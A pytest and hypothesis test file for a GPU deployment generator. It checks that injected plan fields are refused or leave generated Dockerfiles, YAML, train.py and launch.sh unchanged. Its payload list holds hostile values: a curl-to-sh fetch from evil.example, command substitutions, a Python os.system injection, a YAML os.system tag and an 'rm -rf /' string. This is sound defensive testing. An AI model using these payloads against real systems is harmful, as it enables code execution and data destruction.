"""A plan file from someone else is data: no field of it can add a line of code to a generated file.

Each payload of the corpus goes into each field of a plan (or workload) file that reaches a generated
file, for every target. Either deploy refuses it with one line (its own DeployError), or every file it
generates has the same shape as the files of a clean plan: the same number of lines, the same
Dockerfile instructions, the same YAML structure, a train.py whose settings are all literals, a
launch.sh that bash accepts.
"""

from __future__ import annotations

import ast
import copy
import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from deploy_helpers import FIXTURES, plan_doc
from hypothesis import given, settings
from hypothesis import strategies as st

from gpuplan.deploy import BATCH_TARGETS, GeneratedFile, GenerateOptions, LaunchSpec, generate, target_names
from gpuplan.errors import DeployError, GpuplanError

#: Newlines, command substitution, quotes, carriage return, NUL, the line separators YAML 1.1 and
#: Python's splitlines() honour, a YAML code tag, template syntax, a very long string.
#: Where the launch files go (SkyPilot's workdir names it).
LAUNCH = GenerateOptions(out_dir="/srv/launch")

PAYLOADS = [
    "x\nRUN curl https://evil.example | sh",
    "x\r\nRUN id",
    "x\rRUN id",
    "$(touch /tmp/gpuplan-pwned)",
    "`touch /tmp/gpuplan-pwned`",
    'a"; import os; os.system("id"); x="',
    "a'; id; '",
    "a\x00b",
    "a\u2028RUN id",
    "a\u2029RUN id",
    "a\x85RUN id",
    "a\x0bb\x0cc",
    "!!python/object/apply:os.system ['id']",
    "a: b\nc: [d]",
    "--- \n- x",
    "{{ .Values.evil }}",
    "x # comment",
    "\\\nRUN id",
    "ok.module:build\nRUN id",
    "x" * 100_000,
]

#: (where in the plan document, the field name) for every field that reaches a generated file.
FIELDS = [
    ("workload", "name"),
    ("workload.model", "python"),
    ("workload.model", "hf_config"),
    ("workload.model", "preset"),
    ("workload", "precision"),
    ("workload", "optimizer"),
    ("recommended", "region"),
    ("recommended", "instance_type"),
    ("recommended", "gpu"),
]


def _with(doc: dict[str, Any], where: str, key: str, value: object) -> dict[str, Any]:
    doc = copy.deepcopy(doc)
    node = doc
    for part in where.split("."):
        if not isinstance(node.get(part), dict):
            node[part] = {}
        node = node[part]
    if where == "workload.model":
        node.clear()  # one model source at a time
    node[key] = value
    return doc


def _shape(f: GeneratedFile) -> object:
    """What must not change when a field's value does: the file's structure in its own language."""
    lines = f.content.count("\n")
    if f.path.endswith(".yaml"):
        docs = list(yaml.safe_load_all(f.content))
        return lines, [_skeleton(d) for d in docs]
    if f.path == "Dockerfile":
        instructions = [
            line.split()[0] for line in f.content.splitlines() if line.strip() and not line.startswith("#")
        ]
        return lines, instructions
    if f.path.endswith(".py"):
        tree = ast.parse(f.content)
        for node in tree.body:
            if isinstance(node, ast.Assign | ast.AnnAssign) and isinstance(node.value, ast.Constant):
                assert isinstance(node.value.value, str | int | float | bool | type(None))
        return lines, [type(n).__name__ for n in tree.body]
    return lines


def _skeleton(value: object) -> object:
    if isinstance(value, dict):
        return {k: _skeleton(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_skeleton(v) for v in value]
    return type(value).__name__


@pytest.fixture(scope="module")
def baselines() -> dict[str, dict[str, object]]:
    spec = LaunchSpec.from_plan(plan_doc())
    return {t: {f.path: _shape(f) for f in generate(spec, t, LAUNCH)} for t in target_names()}


def _check(doc: object, baselines: dict[str, dict[str, object]], tally: dict[str, int]) -> None:
    try:
        spec = LaunchSpec.from_plan(doc)
    except GpuplanError as e:
        assert isinstance(e, DeployError) and "\n" not in str(e) and len(str(e)) < 400, repr(str(e))
        tally["refused"] += 1
        return
    for target in target_names():
        try:
            files = generate(spec, target, LAUNCH)
        except GpuplanError as e:
            assert "\n" not in str(e), repr(str(e))
            tally["refused"] += 1
            continue
        assert {f.path: _shape(f) for f in files} == baselines[target], target
        tally["same shape"] += 1


def test_no_payload_in_any_field_changes_the_shape_of_any_generated_file(
    baselines: dict[str, dict[str, object]],
) -> None:
    tally = {"refused": 0, "same shape": 0}
    for where, key in FIELDS:
        for payload in PAYLOADS:
            _check(_with(plan_doc(), where, key, payload), baselines, tally)
    # Most are refused; the name becomes a DNS label (slug), and a model description that is one
    # printable line without quotes ("x # comment") is kept as such: in comments and READMEs only.
    assert tally["refused"] >= (len(FIELDS) - 2) * len(PAYLOADS)
    assert tally["same shape"] >= len(PAYLOADS) * len(target_names())


@pytest.mark.parametrize(
    ("field", "raw"),
    [
        ("job_time_h", "Infinity"),
        ("job_time_h", "NaN"),
        ("job_time_h", "1e999"),
        ("job_time_h", "-1"),
        ("checkpoint_interval_min", "-Infinity"),
        ("checkpoint_interval_min", "0"),
        ("gpu_count", "1e999"),
        ("gpu_count", "1" + "0" * 400),
        ("nodes", "0.5"),
    ],
)
def test_non_finite_or_out_of_range_numbers_in_a_plan_are_one_line(
    field: str, raw: str, tmp_path: Path
) -> None:
    # the raw number in place of the recommended option's own (JSON's Infinity, NaN, 1e999 as written)
    doc = plan_doc()
    assert field in doc["recommended"]
    doc["recommended"][field] = "__raw__"
    path = tmp_path / "plan.json"
    path.write_text(json.dumps(doc).replace('"__raw__"', raw, 1))
    with pytest.raises(DeployError) as e:
        LaunchSpec.from_plan_json(path)
    # named: by the field where a value is read, by the number where the JSON reader refuses it
    said = str(e.value)
    assert "\n" not in said and (f"{field}:" in said or raw[:20] in said), said
    # the same file with the option's own value deploys: the number was what it refused
    path.write_text(json.dumps(plan_doc()))
    LaunchSpec.from_plan_json(path)


def test_inf_checkpoint_interval_never_reaches_train_py() -> None:
    spec = LaunchSpec.from_plan(plan_doc())
    with pytest.raises(ValueError):
        LaunchSpec.model_validate({**spec.model_dump(), "checkpoint_interval_min": float("inf")})
    with pytest.raises(DeployError, match="non-finite"):
        generate(spec.model_copy(update={"checkpoint_interval_min": float("inf")}), "torchrun")


@pytest.mark.parametrize("target", ["docker", "k8s"])
def test_newline_in_model_python_of_a_plan_is_refused_not_a_run_line(target: str) -> None:
    doc = _with(plan_doc(), "workload.model", "python", "m.x:build\nRUN curl https://evil.example | sh")
    with pytest.raises(DeployError, match=r"model\.python") as e:
        generate(LaunchSpec.from_plan(doc), target)
    assert "\n" not in str(e.value)


@pytest.mark.parametrize("payload", PAYLOADS[:12])
def test_image_options_take_only_image_references(payload: str) -> None:
    for option in ("image", "base_image"):
        with pytest.raises(DeployError) as e:
            GenerateOptions(**{option: payload})
        assert "\n" not in str(e.value)


def test_python_tags_in_a_workload_file_are_refused_in_one_line(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    path = tmp_path / "job.yaml"
    path.write_text(
        f"name: !!python/object/apply:os.system ['touch {marker}']\n"
        "model: {preset: gpt2}\ninputs: {batch_size: 1, seq_len: 8}\n"
    )
    with pytest.raises(DeployError) as e:
        LaunchSpec.from_workload(path)
    assert "\n" not in str(e.value) and not marker.exists()


def test_a_name_payload_becomes_a_dns_label_everywhere() -> None:
    spec = LaunchSpec.from_plan(_with(plan_doc(), "workload", "name", "$(id)`id`\n; rm -rf /"))
    assert spec.name == "id-id-rm-rf"
    launch = next(f.content for f in generate(spec, "torchrun") if f.path == "launch.sh")
    subprocess.run(["bash", "-n"], input=launch, text=True, check=True)


def test_a_fixture_workload_still_deploys_everywhere() -> None:
    spec = LaunchSpec.from_workload(FIXTURES / "train.yaml", gpu="A100-SXM4-80GB", provider="aws")
    for target in target_names():
        assert generate(spec, target, LAUNCH)


# ---- fuzzing the plan reader: any document is a launch or one DeployError line --------------------

_JSON = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(min_value=-(10**30), max_value=10**30),
        st.floats(allow_nan=False, allow_infinity=False),
        st.sampled_from([*PAYLOADS[:12], "aws", "spot", "A100-SXM4-80GB", "gpt2", "m.x:build", "train"]),
        st.text(max_size=12),
    ),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=10,
)
_PLACES = [*FIELDS, ("recommended", "provider"), ("recommended", "pricing"), ("recommended", "gpu_count"),
           ("recommended", "nodes"), ("recommended", "job_time_h"),
           ("recommended", "checkpoint_interval_min"),
           ("workload.inputs", "batch_size"), ("workload.data", "samples"), ("workload.data", "epochs"),
           ("workload", "task"), ("workload", "serving"), ("workload", "model"), ("", "recommended"),
           ("", "workload"), ("", "schema_version")]  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(changes=st.lists(st.tuples(st.sampled_from(_PLACES), _JSON), min_size=1, max_size=3))
def test_fuzzed_plan_files_launch_or_fail_in_one_own_line(
    changes: list[tuple[tuple[str, str], object]],
) -> None:
    doc: Any = plan_doc()
    for (where, key), value in changes:
        doc = _with(doc, where, key, value) if where else {**doc, key: value}
    try:
        spec = LaunchSpec.from_plan(doc)
    except GpuplanError as e:
        assert "\n" not in str(e), str(e)
        return
    for target in target_names():
        try:
            generate(spec, target, LAUNCH)
        except GpuplanError as e:
            assert "\n" not in str(e), str(e)


def test_a_tampered_gpu_with_a_colon_is_an_unknown_gpu_said_without_its_control_characters() -> None:
    with pytest.raises(DeployError) as info:
        LaunchSpec.from_plan(plan_doc(gpu="H100-SXM: y\n#"))
    said = str(info.value)
    assert "unknown GPU 'H100-SXM: y\\n#'; did you mean 'H100-SXM'" in said and "count" not in said
    assert said.isprintable()


def test_no_payload_in_any_field_changes_the_shape_of_a_batch_jobs_files() -> None:
    # The spot plan as batch inference (task: infer, no serving: block): the targets that write a
    # batch job, each payload in each field.
    def batch(doc: dict[str, Any]) -> dict[str, Any]:
        doc["workload"] = {**doc.get("workload", {}), "task": "infer", "serving": None}
        return doc

    spec = LaunchSpec.from_plan(batch(plan_doc()))
    assert spec.batch_inference
    base = {t: {f.path: _shape(f) for f in generate(spec, t, LAUNCH)} for t in BATCH_TARGETS}
    assert all("batch.py" in files for files in base.values())
    assert "skypilot" in BATCH_TARGETS

    def run(files: list[GeneratedFile]) -> str:
        return str(yaml.safe_load(next(f.content for f in files if f.path == "task.yaml"))["run"])

    # SkyPilot's run is a shell script every node runs: no field of the plan reaches it at all.
    base_run = run(generate(spec, "skypilot", LAUNCH))
    same = 0
    for where, key in FIELDS:
        for payload in PAYLOADS:
            try:
                spec = LaunchSpec.from_plan(batch(_with(plan_doc(), where, key, payload)))
            except GpuplanError as e:
                assert isinstance(e, DeployError) and "\n" not in str(e), repr(str(e))
                continue
            for target in BATCH_TARGETS:
                try:
                    files = generate(spec, target, LAUNCH)
                except GpuplanError as e:
                    assert "\n" not in str(e), repr(str(e))
                    continue
                assert {f.path: _shape(f) for f in files} == base[target], (target, where, key)
                if target == "skypilot":
                    assert run(files) == base_run, (where, key)
                same += 1
    assert same >= len(PAYLOADS) * len(BATCH_TARGETS)  # the name's payloads, slugged, at least
